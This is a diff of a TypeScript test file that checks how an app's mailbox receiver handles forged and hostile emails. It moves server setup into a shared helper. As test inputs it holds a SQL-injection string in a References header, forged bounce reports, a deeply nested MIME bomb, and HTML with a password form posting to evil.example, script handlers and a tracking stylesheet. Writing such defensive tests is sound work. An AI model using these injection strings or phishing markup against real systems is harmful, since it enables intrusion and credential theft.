@@ -1,36 +1,16 @@
 import { eq } from 'drizzle-orm'
-import { afterEach, beforeEach, describe, expect, test } from 'vitest'
-import { imapMailbox } from '#app/adapters/mailbox/imap.server.ts'
+import { describe, expect, test } from 'vitest'
 import { newId } from '#app/db/columns.ts'
 import { db } from '#app/db/client.server.ts'
-import { mailboxes, messages, receivedMessages, suppressions, tasks } from '#app/db/schema/index.ts'
-import { watchMailbox } from '#app/modules/inbox/receive/watch-mailbox.server.ts'
+import { messages, suppressions, tasks } from '#app/db/schema/index.ts'
 import { makeLead } from '#tests/factories/make-lead.ts'
 import { makeMessage } from '#tests/factories/make-message.ts'
-import { startImapServer } from '#tests/servers/imap-server.ts'
 import { rowOf, rowsOf, setupTestDatabase } from '#tests/setup/database.ts'
+import { receivedUpTo, setupMailbox } from '#tests/setup/mailbox.ts'
 
 setupTestDatabase()
 
-let server: Awaited<ReturnType<typeof startImapServer>>
-let watch: ReturnType<typeof watchMailbox>
-beforeEach(async () => {
-  server = await startImapServer()
-  watch = watchMailbox(imapMailbox(server.url), 'office')
-  await expect.poll(() => state()?.connectedAt).toBeInstanceOf(Date)
-})
-afterEach(async () => {
-  await watch.stop()
-  await server.stop()
-})
-
-const state = () => rowOf(mailboxes, eq(mailboxes.name, 'office'))
-
-/** All received items, once every email up to this one was fetched. */
-async function receivedUpTo(uid: number) {
-  await expect.poll(() => state()?.lastUid).toBe(uid)
-  return db().select().from(receivedMessages).orderBy(receivedMessages.createdAt, receivedMessages.id).all()
-}
+const { server } = setupMailbox()
 
 type Mail = { id?: string; from?: string; to?: string; headers?: readonly string[]; body?: string | Buffer }
 
@@ -49,9 +29,9 @@ describe('an email with a forged origin', () => {
   test('belongs to no lead by a forged signature or Message-ID', async () => {
     const lead = makeLead(db(), { email: 'owner@example.com' })
     const ours = makeMessage(db(), { leadId: lead.id, state: 'sent' })
-    server.deliver(mail({ to: `office+${ours.id}${'0'.repeat(12)}@example.com` }))
+    server().deliver(mail({ to: `office+${ours.id}${'0'.repeat(12)}@example.com` }))
     const madeUp = `<${newId()}@harvestgate.example>`
-    const uid = server.deliver(mail({ headers: [`In-Reply-To: ${madeUp}`, `References: ${madeUp} <'or'1'='1'--@x>`] }))
+    const uid = server().deliver(mail({ headers: [`In-Reply-To: ${madeUp}`, `References: ${madeUp} <'or'1'='1'--@x>`] }))
     expect((await receivedUpTo(uid)).map(({ leadId, messageId }) => [leadId, messageId])).toEqual([
       [null, null],
       [null, null],
@@ -62,7 +42,7 @@ describe('an email with a forged origin', () => {
 
   test("from another person's address gives staff work on that lead, and ends no marketing", async () => {
     const lead = makeLead(db(), { email: 'owner@example.com' })
-    const uid = server.deliver(mail({ from: 'Owner <OWNER@example.com>', body: 'Unsubscribe me. STOP' }))
+    const uid = server().deliver(mail({ from: 'Owner <OWNER@example.com>', body: 'Unsubscribe me. STOP' }))
     expect(await receivedUpTo(uid)).toMatchObject([{ leadId: lead.id, kind: 'reply', state: 'new' }])
     expect(rowsOf(suppressions)).toEqual([])
   })
@@ -90,23 +70,25 @@ describe('an email with a forged origin', () => {
     const from = 'MAILER-DAEMON@mx.example.com'
     const bouncedAt = () => rowOf(messages, eq(messages.id, ours.id))?.bouncedAt
     const checked = 'Authentication-Results: mx.harvestgate.example; dmarc=fail header.from=mx.example.com'
-    await receivedUpTo(server.deliver(mail({ from, headers: [checked, ...headers], body: report })))
+    await receivedUpTo(server().deliver(mail({ from, headers: [checked, ...headers], body: report })))
     expect(bouncedAt()).toBeNull()
     expect(rowsOf(suppressions)).toEqual([])
-    await receivedUpTo(server.deliver(mail({ from, headers, body: report })))
+    await receivedUpTo(server().deliver(mail({ from, headers, body: report })))
     expect(bouncedAt(), 'the same one, unforged').toBeInstanceOf(Date)
   })
 
   test('that is in the mailbox twice is stored once', async () => {
-    server.deliver(mail({ id: 'twice' }))
-    expect(await receivedUpTo(server.deliver(mail({ id: 'twice', body: 'Other words' })))).toMatchObject([{ textBody: 'Hello' }])
+    server().deliver(mail({ id: 'twice' }))
+    expect(await receivedUpTo(server().deliver(mail({ id: 'twice', body: 'Other words' })))).toMatchObject([
+      { textBody: 'Hello' },
+    ])
   })
 })
 
 test('two auto-responders never write to each other', async () => {
   makeLead(db(), { email: 'owner@example.com' })
   const uids = Array.from({ length: 3 }, () =>
-    server.deliver(
+    server().deliver(
       mail({ from: 'owner@example.com', headers: ['Auto-Submitted: auto-replied', 'X-Auto-Response-Suppress: All'] }),
     ),
   )
@@ -118,9 +100,9 @@ test('two auto-responders never write to each other', async () => {
 describe('an email built to break its reader', () => {
   test('with invalid or mixed encodings is read as far as possible', async () => {
     const latin = Buffer.concat([Buffer.from('Gr'), Buffer.from([0xfc, 0xdf]), Buffer.from('e')])
-    server.deliver(mail({ headers: ['Content-Type: text/plain; charset=windows-1252'], body: latin }))
-    server.deliver(mail({ headers: ['Content-Type: text/plain; charset=klingon-8'], body: 'Plain words' }))
-    const uid = server.deliver(
+    server().deliver(mail({ headers: ['Content-Type: text/plain; charset=windows-1252'], body: latin }))
+    server().deliver(mail({ headers: ['Content-Type: text/plain; charset=klingon-8'], body: 'Plain words' }))
+    const uid = server().deliver(
       mail({ headers: ['Content-Type: text/plain; charset=utf-8'], body: Buffer.from([0x41, 0xff, 0xfe, 0x42]) }),
     )
     const texts = (await receivedUpTo(uid)).map(({ textBody }) => textBody)
@@ -132,8 +114,8 @@ describe('an email built to break its reader', () => {
       { length: 2_000 },
       (_, at) => `--b${at}\r\nContent-Type: multipart/mixed; boundary=b${at + 1}\r\n\r\n`,
     )
-    server.deliver(mail({ headers: ['Content-Type: multipart/mixed; boundary=b0'], body: open.join('') }))
-    const received = await receivedUpTo(server.deliver(mail({ body: 'Next' })))
+    server().deliver(mail({ headers: ['Content-Type: multipart/mixed; boundary=b0'], body: open.join('') }))
+    const received = await receivedUpTo(server().deliver(mail({ body: 'Next' })))
     expect(received).toMatchObject([{ isUnreadable: true }, { isUnreadable: false, textBody: 'Next' }])
   })
 
@@ -142,7 +124,7 @@ describe('an email built to break its reader', () => {
       <form action="https://evil.example"><input name="password"><button>Send</button></form><iframe src="//evil.example"></iframe>
       <a href="javascript:alert(1)" onclick="x()">one</a> <a href="https://example.com/a">two</a><svg onload="x()"></svg>
       <style>body{display:none}</style><link rel="stylesheet" href="https://spy.example/a.css"><meta http-equiv="refresh" content="0;url=/">`
-    const uid = server.deliver(mail({ headers: ['Content-Type: text/html'], body: html }))
+    const uid = server().deliver(mail({ headers: ['Content-Type: text/html'], body: html }))
     const [stored] = await receivedUpTo(uid)
     expect(stored?.htmlBody).not.toMatch(/script|spy|evil|style|position|form|input|onclick|onload|iframe|svg|meta|link/i)
     expect(stored?.htmlBody).toContain('href="https://example.com/a"')
@@ -151,9 +133,9 @@ describe('an email built to break its reader', () => {
 })
 
 test('a connection that breaks is reopened, and nothing is missed or stored twice', async () => {
-  await receivedUpTo(server.deliver(mail({ body: 'Before' })))
-  server.breakConnections()
-  const uid = server.deliver(mail({ body: 'During' }))
+  await receivedUpTo(server().deliver(mail({ body: 'Before' })))
+  server().breakConnections()
+  const uid = server().deliver(mail({ body: 'During' }))
   expect((await receivedUpTo(uid)).map(({ textBody }) => textBody)).toEqual(['Before', 'During'])
-  expect(server.logins()).toBe(2)
+  expect(server().logins()).toBe(2)
 })
